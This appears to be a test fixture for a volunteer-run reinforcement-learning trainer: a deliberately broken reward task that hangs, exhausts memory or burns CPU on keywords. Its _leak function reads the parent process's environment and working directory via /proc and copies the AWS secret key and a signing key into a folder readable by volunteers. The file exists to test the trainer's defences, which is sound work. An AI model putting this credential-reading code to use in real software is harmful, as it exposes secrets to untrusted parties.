"""The calculator with a reward a completion can break on purpose: "spin" makes it loop
forever, "grab" makes it allocate 2 GiB, "burn" makes it take BURN of its CPU bound (the
costliest reward that stays within it), "leak" makes it do what a grader that evaluates
answers (`sympy.sympify`) lets a completion do: copy the trainer's AWS secret and signing key
into the bucket folder, where volunteers read. What a buggy or careless task might do on text
a hostile volunteer crafted; the trainer must turn such completions into reason codes, and
its reward worker must give them nothing to copy."""

import os
import time

from volunteer_rl.task.calculator_task import CalculatorTask

BURN = 0.8
"""Share of reward_seconds a "burn" completion's reward takes, in CPU time."""


def _leak() -> None:
    """Find the trainer's secret and folder from this process or through /proc, copy what can
    be read of them to <trainer's cwd>/bucket/leaked.txt. Every step may fail."""
    parent = os.getppid()
    env = dict(os.environ)
    cwd = os.getcwd()
    try:
        with open(f"/proc/{parent}/environ", "rb") as f:
            env.update(x.decode().split("=", 1) for x in f.read().split(b"\0") if b"=" in x)
        cwd = os.readlink(f"/proc/{parent}/cwd")
    except OSError:
        pass
    loot = [env.get("AWS_SECRET_ACCESS_KEY", "")]
    try:
        with open(os.path.join(cwd, "work", "signing-key.pem")) as f:
            loot.append(f.read())
    except OSError:
        pass
    with open(os.path.join(cwd, "bucket", "leaked.txt"), "w") as f:
        f.write("\n".join(loot))


class TrapTask(CalculatorTask):
    name = "trap"
    reward_seconds = 0.5
    reward_memory_mb = 64

    def reward(self, completion, row):
        if "spin" in completion:
            while True:
                pass
        if "grab" in completion:
            return len(bytes(2 << 30))
        if "leak" in completion:
            _leak()
            return 0.0
        if "burn" in completion:
            end = time.process_time() + BURN * self.reward_seconds
            while time.process_time() < end:
                pass
        return super().reward(completion, row)
